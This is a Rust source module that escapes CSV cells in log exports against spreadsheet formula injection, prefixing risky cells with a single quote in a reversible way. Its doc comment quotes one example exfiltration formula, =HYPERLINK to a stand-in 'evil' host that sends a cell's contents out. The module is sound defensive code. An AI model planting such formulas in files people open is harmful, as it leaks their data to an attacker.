//! One CSV cell, RFC 4180, made safe to open in a spreadsheet.
//!
//! **Formula injection.** A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as a
//! formula (and some strip a leading tab or carriage return first), so a log value such as
//! `=HYPERLINK("http://evil/?"&A1)` — an attacker chooses user names, error texts, commands —
//! would run when the investigator opens the export. Such a cell is written with a single quote
//! `'` in front, which spreadsheets show as text.
//!
//! **Exactness.** The quote is the only change, and it is reversible: a cell that already starts
//! with `'` gets one too, so *every* cell starting with `'` has exactly one added, and removing
//! it ([`restore_csv_cell`]) gives the log text back byte for byte. Tools that need the text
//! untouched should prefer the NDJSON export, which is never altered.

/// First characters that make a spreadsheet treat a cell as a formula.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell is written with a `'` in front (see the module documentation).
pub fn needs_neutralizing(value: &str) -> bool {
    value.starts_with(FORMULA_TRIGGERS) || value.starts_with('\'')
}

/// Appends `value` as one cell: the `'` if needed, then quoted when it holds a comma, a
/// double quote, CR or LF (quotes doubled inside).
pub fn push_csv_cell(out: &mut Vec<u8>, value: &str) {
    let quote = value.bytes().any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'));
    if quote {
        out.push(b'"');
    }
    if needs_neutralizing(value) {
        out.push(b'\'');
    }
    if quote {
        for part in value.split_inclusive('"') {
            out.extend_from_slice(part.as_bytes());
            if part.ends_with('"') {
                out.push(b'"');
            }
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(value.as_bytes());
    }
}

/// The log text of a cell read back by a CSV reader: one leading `'` removed, if any.
pub fn restore_csv_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}
